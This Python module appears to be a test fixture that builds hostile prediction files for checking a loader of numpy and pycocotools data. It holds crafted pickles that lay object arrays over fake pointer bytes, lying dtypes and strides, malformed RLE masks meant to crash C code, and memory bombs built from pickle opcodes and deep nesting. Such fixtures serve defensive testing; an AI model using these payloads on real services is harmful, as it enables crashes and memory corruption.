"""Hostile prediction files made by hand: crafted pickles, lying masks, resource bombs.

The trusted side (files as the original scripts write them) is `prediction_files`; everything here
is what an attacker would write instead, built from pickle opcodes or crafted reduce tuples.
"""

from __future__ import annotations

import io
import pickle
import struct
from pathlib import Path

import numpy as np

import prediction_files as pf

RECONSTRUCT = np.ndarray.__reduce__(np.ndarray((0,)))[0]
SCALAR = np.float32(0).__reduce__()[0]
FROMBUFFER = np.arange(2).__reduce_ex__(5)[0]
FAKE_POINTERS = struct.pack("<4Q", 0xDEADBEEF, 0x41414141, 0x10, 0x8)
"""Bytes that an object array built over them would follow as PyObject pointers."""


class Reduces:
    """Pickles as `function(*arguments)`, then BUILD with `state` when one is given: a crafted reduce tuple."""

    def __init__(self, function, arguments: tuple, state=None):
        self.function, self.arguments, self.state = function, arguments, state

    def __reduce__(self):
        return (self.function, self.arguments) if self.state is None else (self.function, self.arguments, self.state)


def dtype_with_state(name: str, state: tuple) -> Reduces:
    """numpy.dtype(name) followed by a BUILD with `state` (numpy writes its own flags there)."""
    return Reduces(np.dtype, (name, False, True), state)


OBJECT_DTYPE_WITHOUT_FLAGS = dtype_with_state("O8", (3, "|", None, None, None, -1, -1, 0))
"""An object dtype whose state clears the flags that make numpy treat its items as references."""

MEMORY_PICKLES = {
    "ndarray-over-bytes": Reduces(np.ndarray, ((4,), np.dtype(object), FAKE_POINTERS)),
    "reconstruct-object-state-with-bytes": Reduces(
        RECONSTRUCT, (np.ndarray, (0,), b"b"), (1, (4,), np.dtype(object), False, FAKE_POINTERS)),
    "object-dtype-without-flags": Reduces(
        RECONSTRUCT, (np.ndarray, (0,), b"b"), (1, (4,), OBJECT_DTYPE_WITHOUT_FLAGS, False, FAKE_POINTERS)),
    "frombuffer-object": Reduces(FROMBUFFER, (FAKE_POINTERS, np.dtype(object), (4,), "C")),
    "scalar-object": Reduces(SCALAR, (np.dtype(object), FAKE_POINTERS)),
    "zero-strides": Reduces(np.ndarray, ((2_000_000_000, 4), np.dtype("<f4"), b"\0" * 16, 0, (0, 4))),
    "dtype-itemsize-lie": Reduces(
        RECONSTRUCT, (np.ndarray, (0,), b"b"),
        (1, (4,), dtype_with_state("f4", (3, "<", None, None, None, 64, 4, 0)), False, b"\0" * 16)),
}
"""Pickles that would hand the file control of memory: object arrays over raw bytes, arrays over too little."""


# -- pickle opcodes, for what pickle.dumps cannot write ------------------------------------------

def op_unicode(text: str) -> bytes:
    data = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(data)) + data


def splice(payload: bytes, marker: str, opcodes: bytes) -> bytes:
    """`payload` (a protocol-3 pickle) with the string `marker` replaced by whatever `opcodes` push."""
    encoded = op_unicode(marker)
    assert payload.count(encoded) == 1, "the marker must be pickled exactly once"
    return payload.replace(encoded, opcodes)


def nested_lists(depth: int) -> bytes:
    """Opcodes pushing [[[...]]] `depth` levels deep: EMPTY_LIST depth times, then APPEND depth - 1 times."""
    return b"]" * depth + b"a" * (depth - 1)


def nested_tuples(depth: int) -> bytes:
    """Opcodes pushing ((((),),),) `depth` levels deep: EMPTY_TUPLE, then TUPLE1 `depth` times."""
    return b")" + b"\x85" * depth


def object_npy(array_or_object, shape=(1,)) -> bytes:
    return pf.npy_bytes_with_pickle(pickle.dumps(array_or_object, protocol=3), shape)


def spliced_npy(records: list, marker: str, opcodes: bytes) -> bytes:
    """The .npy of `records` (an object array) with the string `marker` in them replaced by `opcodes`."""
    payload = splice(pickle.dumps(pf.object_array(records), protocol=3), marker, opcodes)
    return pf.npy_bytes_with_pickle(payload, (len(records),))


# -- masks ------------------------------------------------------------------------------------------

def counts_of_one_pixel_runs(pixels: int) -> bytes:
    """A valid compressed RLE string of `pixels` runs of one pixel (a stripe pattern): '111' then
    '0' for every further run, each the same as the one two before."""
    return b"111" + b"0" * (pixels - 3)


def with_mask(records: list[dict], detection: int, rle: dict) -> list[dict]:
    """`records` with the mask of the first image's `detection` replaced by `rle`."""
    records[0]["masks"][detection] = rle
    return records


def hostile_masks() -> dict[str, dict]:
    """RLEs that crash or corrupt pycocotools' C code; each from a plain np.savez, no pickle tricks."""
    good = pf.rle(*pf.RECTANGLES[0])
    counts = good["counts"]
    return {
        "ends-inside-a-number": {"size": good["size"], "counts": counts + b"P"},  # 'P' = '0' + 0x20: "more follows"
        "height-zero": {"size": [0, pf.WIDTH], "counts": counts},
        "width-zero": {"size": [pf.HEIGHT, 0], "counts": counts},
        "negative-size": {"size": [-pf.HEIGHT, -pf.WIDTH], "counts": counts},
        "runs-past-the-mask": {"size": [4, 4], "counts": counts},
        "runs-beyond-its-size": {"size": good["size"], "counts": pf.rle(0, 0, 100, 100, height=100, width=100)["counts"]},
        "nul-inside": {"size": good["size"], "counts": counts[:2] + b"\0" + counts[2:]},
        "outside-the-alphabet": {"size": good["size"], "counts": counts[:-1] + b"\xff"},
        "huge-size": {"size": [1 << 20, 1 << 20], "counts": counts},
        "size-not-two-numbers": {"size": [pf.HEIGHT], "counts": counts},
        "empty-counts": {"size": good["size"], "counts": b""},
        "uncompressed-runs-short": {"size": good["size"], "counts": [5, 10]},
        "uncompressed-negative": {"size": [2, 2], "counts": [6, -2]},
    }


# -- resource bombs -------------------------------------------------------------------------------

def memo_bomb(path: Path, masks: int = 3000, counts_bytes: int = 1 << 20) -> Path:
    """One valid 1 MB counts string referenced from `masks` masks through the pickle memo: a few KB
    on disk, gigabytes once every mask's bytes are laid out."""
    side = int(counts_bytes ** 0.5)
    shared = {"size": [side, side], "counts": counts_of_one_pixel_runs(side * side)}
    record = {
        "image_file": "bomb.jpg",
        "boxes": np.zeros((masks, 4), np.float32),
        "classes": np.ones(masks, np.int64),
        "scores": np.full(masks, 0.5, np.float32),
        "masks": [{"size": shared["size"], "counts": shared["counts"]} for _ in range(masks)],
    }
    np.savez_compressed(path, data=pf.object_array([record]))
    return path


def memory_pickle_record(attack: str) -> list[dict]:
    """A facere record whose boxes are one of MEMORY_PICKLES."""
    records = pf.facere_records()
    records[0]["boxes"] = MEMORY_PICKLES[attack]
    return records


def huge_npy_header(path: Path, descr: str = "<f8", gib: int = 100) -> Path:
    """A .npy whose header announces `gib` GiB of `descr` values and holds eight bytes."""
    itemsize = np.dtype(descr).itemsize
    header = io.BytesIO()
    np.lib.format.write_array_header_1_0(header, {"descr": descr, "fortran_order": False,
                                                  "shape": ((gib << 30) // itemsize,)})
    path.write_bytes(header.getvalue() + b"\0" * 8)
    return path


def deep_json_meta(path: Path, depth: int = 200_000) -> Path:
    """Good data and a `meta` JSON string nested `depth` levels deep (np.savez, no pickle tricks)."""
    np.savez_compressed(path, data=pf.object_array(pf.facere_records()), meta="[" * depth + "]" * depth)
    return path


def deep_pickled_meta(path: Path, depth: int = 200_000) -> Path:
    """Good data and a `meta` object array holding lists nested `depth` levels deep."""
    marker = "DEEP-META"
    meta = splice(pickle.dumps(pf.object_array([marker]), protocol=3), marker, nested_lists(depth))
    return pf.write_zip(path, {"data.npy": pf.numpy1_npy_bytes(pf.object_array(pf.facere_records())),
                               "meta.npy": pf.npy_bytes_with_pickle(meta, (1,))})


def deep_tuple_key(path: Path, depth: int = 200_000) -> Path:
    """A record with a dict key of tuples nested `depth` levels deep: hashing it recurses in C."""
    marker = "DEEP-KEY"
    records = pf.facere_records()
    records[0][marker] = 1
    return pf.write_zip(path, {"data.npy": spliced_npy(records, marker, nested_tuples(depth))})


def memo_index_bomb(path: Path) -> Path:
    """A pickle that stores its first object at memo slot 2**28: the C unpickler grows its memo table to match."""
    payload = b"\x80\x03N" + b"r" + struct.pack("<I", 1 << 28) + b"."
    path.write_bytes(pf.npy_bytes_with_pickle(payload, ()))
    return path


def empty_set_bomb(path: Path, sets: int = 40_000_000) -> Path:
    """Protocol-4 EMPTY_SET `sets` times: one byte of pickle each, about 200 bytes of memory each, deflated to KB."""
    payload = b"\x80\x04" + b"\x8f" * sets + b"."
    return pf.write_zip(path, {"data.npy": pf.npy_bytes_with_pickle(payload, (1,))})
